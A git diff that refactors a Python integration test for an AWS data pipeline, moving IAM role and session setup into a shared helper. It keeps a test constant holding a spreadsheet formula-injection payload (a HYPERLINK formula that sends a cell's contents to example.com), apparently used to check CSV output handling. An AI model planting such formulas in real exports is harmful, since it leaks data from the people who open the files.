@@ -4,7 +4,6 @@ import contextlib
 import csv
 import io
 import json
-import uuid
 from collections.abc import Iterator
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
@@ -16,16 +15,14 @@ import pytest
 from pipeline.command import Command
 from pipeline.outcomes import Exit
 from pipeline.program import OF_A_STACK, program
-from tests import roles
 from tests.integration.conftest import Pipeline
+from tests.integration.people import DATASET, begin_session
 from tests.integration.tool import Answer, run
 from tests.patience import PERMISSION, wait_for
-from tests.target import place_of
 
 if TYPE_CHECKING:
     from mypy_boto3_iam import IAMClient
 
-DATASET = "customers"
 DUTIES = ("Producer", "Consumer", "Steward")
 FORMULA = '=HYPERLINK("http://example.com/"&A1)'
 
@@ -49,16 +46,7 @@ class People:
 
     def with_policy(self, policy: str = "") -> tuple[str, boto3.Session]:
         """A role with a managed policy, or with none: its name, and a session."""
-        partition, account = self.outputs["LambdaFunctionArn"].split(":")[1:5:3]
-        suffix = self.outputs["LambdaFunctionName"].removeprefix("data-processor-")
-        name = f"zero-trust-reader-{suffix}-{uuid.uuid4().hex[:12]}"  # as its policy says
-        trust = roles.trusting(partition, account)
-        arn = self.later.enter_context(
-            roles.made(self.iam, name, trust, policy, {"dataset": DATASET})
-        )
-        region = place_of(self.outputs).region
-        with contextlib.closing(boto3.client("sts")) as sts:
-            return name, wait_for("session", lambda: roles.become(sts, arn, region), PERMISSION)
+        return begin_session(self.iam, self.outputs, self.later, policy)
 
     @contextlib.contextmanager
     def operator(self, *commands: str) -> Iterator[boto3.Session]:
